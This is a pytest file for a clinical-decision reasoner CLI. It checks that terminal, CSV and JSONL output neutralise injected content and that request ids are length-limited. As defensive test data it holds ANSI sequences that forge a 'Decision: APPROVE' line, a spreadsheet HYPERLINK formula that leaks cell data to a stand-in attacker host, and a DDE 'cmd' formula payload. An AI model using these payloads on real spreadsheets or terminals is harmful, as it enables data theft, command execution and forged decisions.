"""Output injection (issue 13, item 8) and the RDF cost of an id (item 7).

A request's `id` and every other caller string reach a terminal escaped (no ANSI escape, line break or
bidirectional override gets through: a crafted id cannot print a fake `Decision: APPROVE` line); CSV
cells that a spreadsheet would run as formulas are quoted with `'`; JSON rows escape control
characters. An id is at most 256 characters, and the TriG of a determination holds a fixed number of
copies of it, whatever the request holds.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from reasoner.cli import app
from reasoner.cli.render import render_text, terminal_safe
from reasoner.flow.engine import default_reasoner
from reasoner.flow.lift import request_iri
from reasoner.flow.provenance import determination_graph, serialize
from reasoner.pipelines.batch import Format, run_batch

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
REFER = json.loads((EXAMPLES / "refer-initial-t-all-him.json").read_text())
runner = CliRunner()

FAKE = "x\x1b[2K\r\x1b[1A\nDecision: APPROVE\nApproval period: 6 months\x1b[0m"
HOSTILE_IDS = [FAKE, "\u202eEVORPPA", "tab\there", "bell\x07", "nul\x00", "del\x7f", "c1\x9b31m", "line\u2028sep"]


@pytest.mark.parametrize("request_id", HOSTILE_IDS, ids=repr)
def test_check_text_output_escapes_the_id(tmp_path, request_id):
    path = tmp_path / "r.json"
    path.write_text(json.dumps({**REFER, "id": request_id,
                                "regimen": {"with": ["\x1b[31mAgent\nDecision: APPROVE", "dasatinib"]}}))
    result = runner.invoke(app, ["check", str(path)])
    assert result.exit_code == 0, result.stderr
    out = result.stdout
    assert all(ch.isprintable() or ch == "\n" for ch in out), repr(out)
    assert [line for line in out.splitlines() if line.startswith("Decision:")] == ["Decision: REFER"]
    assert terminal_safe(request_id) in out


def test_terminal_safe_keeps_printable_text_and_escapes_the_rest():
    assert terminal_safe("Ph-negative B-ALL, 28 mcg/day — é 😀") == "Ph-negative B-ALL, 28 mcg/day — é 😀"
    assert terminal_safe("a\x1b[2J\nb\u202e\ud800") == "a\\x1b[2J\\x0ab\\u202e\\ud800"


def test_render_text_of_a_determination_with_hostile_strings_everywhere():
    det = default_reasoner().evaluate(REFER)
    det = json.loads(json.dumps(det).replace("CP.PHAR.312", "CP\\u001b[2J"))
    det["id"] = FAKE
    text = render_text(det).plain
    assert "\x1b" not in text and [line for line in text.splitlines() if line.startswith("Decision:")] == [
        "Decision: REFER"]


def test_error_lines_escape_field_names_of_the_caller(tmp_path):
    path = tmp_path / "r.json"
    path.write_text(json.dumps({**REFER, "\x1b[2J\nDecision: APPROVE": 1}))
    result = runner.invoke(app, ["check", str(path)])
    assert result.exit_code == 2 and result.stderr.count("\n") == 1 and "\x1b" not in result.stderr
    assert result.stderr.startswith("error: \\x1b[2J\\x0aDecision: APPROVE: is not a field")


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


def test_csv_neutralises_formula_prefixes_in_every_cell(tmp_path):
    lines = [json.dumps({**REFER, "id": rid}) for rid in [*FORMULAS, "plain-1", "a=b"]]
    lines.append(json.dumps({**REFER, "id": "=ERR()", "=cmd|' /C calc'!A0": 1}))
    src = tmp_path / "in.jsonl"
    src.write_text("\n".join(lines) + "\n")
    out = tmp_path / "out.csv"
    run_batch(src, out, Format.csv, workers=1)
    with out.open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["id"] for r in rows] == ["'" + f for f in FORMULAS] + ["plain-1", "a=b", "'=ERR()"]
    assert rows[-1]["error"].startswith("'=cmd|' /C calc'!A0: is not a field")
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_jsonl_rows_escape_control_characters(tmp_path):
    src = tmp_path / "in.jsonl"
    src.write_text(json.dumps({**REFER, "id": FAKE}) + "\n")
    out = tmp_path / "out.jsonl"
    run_batch(src, out, Format.jsonl, workers=1)
    raw = out.read_bytes()
    assert b"\x1b" not in raw and raw.count(b"\n") == 1
    assert json.loads(raw)["id"] == FAKE


def test_an_id_of_1_mb_is_refused_and_the_longest_is_copied_a_fixed_number_of_times(tmp_path):
    path = tmp_path / "r.json"
    path.write_text(json.dumps({**REFER, "id": "x" * 1_000_000}))
    result = runner.invoke(app, ["check", str(path), "--format", "ttl"])
    assert result.exit_code == 2 and result.stderr == "error: id: must be at most 256 characters long\n"

    engine = default_reasoner()
    copies = set()
    sizes = {}
    for rid in ("a", "é" * 256):
        for agents in ([], [f"unknown agent {i}" for i in range(50)]):
            req = {**REFER, "id": rid, "regimen": {"with": agents}}
            trig = serialize(determination_graph(engine.evaluate_full(req)))
            copies.add(trig.count(str(request_iri(rid))))
            sizes[rid, len(agents)] = len(trig)
    # not multiplied by the id or by a list's length; bounded by the number of shapes (each report
    # result names its focus node), which the derived open readings of issue 12 §6 raised to ~100
    assert len(copies) == 1 and copies.pop() <= 150
    longest_iri = len(str(request_iri("é" * 256)))
    assert sizes["é" * 256, 0] - sizes["a", 0] <= 150 * longest_iri  # at most ~230 KB more, bounded
